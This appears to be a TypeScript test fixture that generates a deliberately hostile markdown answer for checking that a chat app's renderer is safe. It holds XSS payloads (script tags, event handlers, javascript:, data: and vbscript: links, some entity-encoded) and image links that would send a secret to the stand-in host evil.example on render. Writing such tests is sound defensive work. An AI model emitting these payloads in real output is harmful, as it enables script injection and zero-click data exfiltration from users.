/**
 * The demo model's answer to "Show me hostile markdown": model output that tries everything a page must never do with
 * it. Raw HTML (script, event handlers, iframe, svg), javascript:/data:/vbscript: links (plain, upper case,
 * entity-encoded, reference-style, autolinks), images that would leak data to another host on render (zero-click
 * exfiltration), links to a foreign host, entity tricks. Each executable payload sets window.__pwned.
 * The e2e fake upstream serves the same text (tests/support/e2e-env.ts), so tests/e2e/render-safety.spec.ts checks
 * one payload through both paths.
 */

/** A host that is not the app's: nothing in the page may ever ask it for anything. */
export const HOSTILE_FOREIGN_HOST = "evil.example";

/** The demo prompt: "Show me hostile markdown", optionally naming an origin for the pixel (e.g. a local server). */
export const HOSTILE_PROMPT = /\bhostile markdown\b/i;

/** The first http(s) origin a prompt names (where the auto-loading pixel points), else the foreign host. */
export function pixelOriginFromPrompt(text: string): string {
  const named = text.match(/\bhttps?:\/\/[^\s/?#)]+/i)?.[0];
  return named ? new URL(named).origin : `https://${HOSTILE_FOREIGN_HOST}`;
}

export function hostileMarkdown(pixelOrigin: string): string {
  const foreign = `https://${HOSTILE_FOREIGN_HOST}`;
  return [
    "# Hostile answer\n\n",
    "Nothing in this answer may run, load from another host, or link anywhere but http(s) and mailto.\n\n",
    "<script>window.__pwned = 'script'</script>\n\n",
    "<img src=x onerror=\"window.__pwned='img-onerror'\">\n\n",
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>\n\n",
    "<svg onload=\"window.__pwned='svg'\"><circle r=\"5\"/></svg>\n\n",
    "<a href=\"javascript:window.__pwned='raw-a'\">raw html link</a>\n\n",
    "<details open ontoggle=\"window.__pwned='details'\"><summary>s</summary>x</details>\n\n",
    "[js link](javascript:window.__pwned='md-link')\n\n",
    "[JS upper](JAVASCRIPT:window.__pwned='md-upper')\n\n",
    "[entity js](&#106;avascript:window.__pwned='entity')\n\n",
    "[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)\n\n",
    "[vb link](vbscript:msgbox(1))\n\n",
    "[ref js][r1]\n\n",
    "<javascript:window.__pwned='autolink'>\n\n",
    `![exfil](${foreign}/leak.png?secret=s3cr3t)\n\n`,
    `![pixel](${pixelOrigin}/pixel.png?leak=1)\n\n`,
    "![js image](javascript:window.__pwned='img-src')\n\n",
    `[![linked image](${foreign}/badge.svg)](${foreign}/)\n\n`,
    `[a foreign site](${foreign}/login)\n\n`,
    "&lt;script&gt;window.__pwned='entities'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;\n\n",
    "[safe link](https://example.com/docs) and [mail](mailto:someone@example.com) and <https://example.org/auto>\n\n",
    "[r1]: javascript:window.__pwned='reference'\n",
  ].join("");
}
